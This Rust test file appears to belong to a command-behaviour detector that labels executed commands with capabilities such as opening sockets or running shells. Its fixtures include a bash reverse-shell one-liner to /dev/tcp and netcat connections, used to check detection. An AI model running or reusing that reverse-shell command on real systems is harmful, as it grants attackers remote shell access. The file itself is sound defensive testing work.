use proptest::prelude::*;

use super::*;

fn argv(line: &str) -> Vec<String> {
    line.split(" ¦ ").map(str::to_owned).collect()
}

fn of(line: &str) -> Features {
    Features::of(&Command {
        executable: "/usr/bin/x",
        parent: "/usr/bin/python3",
        argv: &argv(line),
    })
}

fn texts(line: &str, kind: Kind) -> Vec<String> {
    let argv = argv(line);
    let command = Command {
        executable: "/usr/bin/x",
        parent: "/usr/bin/python3",
        argv: &argv,
    };
    let named = named(&command).into_iter();
    named
        .filter(|(feature, _)| feature.kind() == kind)
        .map(|(_, text)| text)
        .collect()
}

#[test]
fn features_are_the_same_for_ever() {
    // Learned sets hold these numbers: a change here makes every baseline's commands new.
    let bits: Vec<u32> = of("id ¦ -u").all().iter().map(|feature| feature.bits()).collect();
    insta::assert_json_snapshot!(bits);
}

#[test]
fn tokens_and_pairs_keep_the_metacharacters_between_words() {
    assert_eq!(
        texts("bash ¦ -c ¦ cat /etc/hosts 2>&1 | wc -l", Kind::Token),
        ["cat", "etc", "hosts", "2", "1", "wc", "-l"]
    );
    let pairs = texts("bash ¦ -c ¦ a >& b|sh", Kind::Pair);
    assert_eq!(pairs, ["a\u{1f}>&", ">&\u{1f}b", "b\u{1f}|", "|\u{1f}sh"]);
}

#[test]
fn numbers_and_addresses_of_a_program_count_by_their_class() {
    assert_eq!(
        of("bash ¦ -c ¦ nc 203.0.113.9 4242"),
        of("bash ¦ -c ¦ nc 203.0.113.7 4321")
    );
    assert_ne!(
        of("bash ¦ -c ¦ nc 203.0.113.9 4242"),
        of("bash ¦ -c ¦ nc 127.0.0.1 4242")
    );
}

#[test]
fn a_reverse_shell_opens_a_socket_and_runs_a_shell_whatever_surrounds_it() {
    let plain = texts(
        "bash ¦ -c ¦ bash -i >& /dev/tcp/203.0.113.9/4242 0>&1",
        Kind::Capability,
    );
    assert_eq!(
        plain,
        [
            "opens a socket",
            "redirects descriptors",
            "runs a shell",
            "runs an interactive shell",
            "names an address"
        ]
    );
    let padding = "ls -la; cat README.md; ".repeat(20);
    let padded = format!("bash ¦ -c ¦ {padding}bash -i >& /dev/tcp/203.0.113.9/4242 0>&1; {padding}");
    assert_eq!(texts(&padded, Kind::Capability), plain);
}

#[test]
fn a_word_inside_another_is_no_capability() {
    assert_eq!(
        texts("ls ¦ sync ¦ func.c ¦ finch", Kind::Capability),
        Vec::<String>::new()
    );
}

#[test]
fn each_text_of_a_capability_is_found_wherever_it_stands() {
    for (name, patterns) in CAPABILITIES {
        for pattern in patterns {
            for line in [
                pattern.to_string(),
                format!("{pattern} b"),
                format!("a {pattern}"),
                format!("a ¦ {pattern} ¦ b"),
            ] {
                assert!(
                    texts(&line, Kind::Capability).contains(&name.to_owned()),
                    "{name}: {line:?}"
                );
            }
        }
    }
}

#[test]
fn a_text_inside_another_is_found_by_its_own_edges() {
    // `rcat` and `socat` end in words, `net.dial` begins with one.
    for (line, found) in [
        ("sshd-socat", true),
        ("xsocat", false),
        ("netcat", true),
        ("fnetcat", false),
        ("xftp", false),
    ] {
        assert_eq!(texts(line, Kind::Capability) != Vec::<String>::new(), found, "{line}");
    }
}

proptest! {
    #[test]
    fn features_of_any_text_are_sorted_and_named_alike(words in prop::collection::vec(any::<String>(), 0..5)) {
        let command = Command { executable: "/x", parent: "", argv: &words };
        let features = Features::of(&command);
        prop_assert!(features.all().is_sorted_by(|a, b| a < b));
        let mut named: Vec<Feature> = named(&command).into_iter().map(|(feature, _)| feature).collect();
        named.sort_unstable();
        prop_assert_eq!(&named[..], features.all());
    }
}
